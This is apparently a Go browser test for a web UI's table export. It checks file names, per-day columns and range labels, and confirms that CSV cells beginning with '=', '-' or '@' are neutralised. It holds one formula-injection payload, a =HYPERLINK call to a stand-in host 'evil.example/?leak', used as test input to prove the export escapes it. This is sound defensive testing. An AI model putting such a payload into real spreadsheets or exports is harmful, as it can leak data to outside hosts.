package ui_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/clumsies/clumsies/events"
)

// TestBrowser_ExportNamesAndCells exports tables in Chromium: the Rules
// table reached from the overview is saved as rules-all-time.csv (named
// after its own page and the range), its per-day column holds the refs
// of each day rather than the chart's titles, every row says which range
// it counts, and the page stays where it is. The Sessions table of the
// last 7 days names those days, and a session id a hook announced as
// =HYPERLINK(...) is exported as text, not as a formula.
func TestBrowser_ExportNamesAndCells(t *testing.T) {
	b := newBackend(t)
	rulesCatalog(t, b)
	const evil = `=HYPERLINK("http://evil.example/?leak","open me")`
	now := time.Now().UTC()
	b.appendAs(t, evil, events.TypeSessionStart, events.SessionStartData{Host: "claude-code", Source: "startup"}, now)
	b.appendAs(t, "-s-dash", events.TypeSessionStart, events.SessionStartData{Host: "@codex", Source: "startup"}, now)
	p := newPage(t, b.serve(t))

	p.open("/", "overview")
	eval[bool](p, `(document.querySelector('nav a[data-nav="rules"]').click(), true)`)
	p.wait(`document.getElementById("app").dataset.page === "rules" && document.querySelector("[data-table=rules]")`)
	eval[bool](p, `(document.querySelector('[data-export="rules"] button[data-format=csv]').click(), true)`)
	if got := eval[string](p, `location.pathname + " " + document.getElementById("app").dataset.page`); got != "/rules rules" {
		t.Errorf("after saving the CSV the page is %q, want /rules still", got)
	}
	const capture = `(window.saved = [], window.download = (name, text) => window.saved.push({name, text}), true)`
	eval[bool](p, capture)
	eval[bool](p, `(document.querySelector('[data-export="rules"] button[data-format=csv]').click(), document.querySelector('[data-export="rules"] button[data-format=json]').click(), true)`)
	names := eval[[]string](p, `window.saved.map((x) => x.name)`)
	if strings.Join(names, " ") != "rules-all-time.csv rules-all-time.json" {
		t.Errorf("the rules table is saved as %q, want rules-all-time.csv and .json", names)
	}
	csv := eval[string](p, `window.saved[0].text`)
	lines := strings.Split(strings.TrimSuffix(csv, "\r\n"), "\r\n")
	if !strings.HasPrefix(lines[0], "path,kind,refs,per day,") || !strings.HasSuffix(lines[0], ",range") {
		t.Errorf("CSV header %q, want path, kind, refs, per day, ... and range last", lines[0])
	}
	var rows []map[string]any
	if err := json.Unmarshal([]byte(eval[string](p, `window.saved[1].text`)), &rows); err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		perDay, _ := r["per day"].(string)
		if perDay == "" || strings.Trim(perDay, "0123456789 ") != "" || r["range"] != "all time" {
			t.Errorf("JSON row %v: per day %q, range %v; want the refs of each day and all time", r["path"], perDay, r["range"])
		}
	}

	p.open("/sessions?days=7", "sessions")
	eval[bool](p, capture)
	eval[bool](p, `(document.querySelector('[data-export="sessions"] button[data-format=csv]').click(), true)`)
	today, since := now.Format("2006-01-02"), now.AddDate(0, 0, -6).Format("2006-01-02")
	if name := eval[string](p, `window.saved[0].name`); name != "sessions-"+since+"_to_"+today+".csv" {
		t.Errorf("the sessions table is saved as %q, want sessions-%s_to_%s.csv", name, since, today)
	}
	csv = eval[string](p, `window.saved[0].text`)
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?leak"",""open me"")"`, "'-s-dash,'@codex,", since + " to " + today + "\r\n"} {
		if !strings.Contains(csv, want) {
			t.Errorf("sessions CSV %q does not hold %q", csv, want)
		}
	}
}
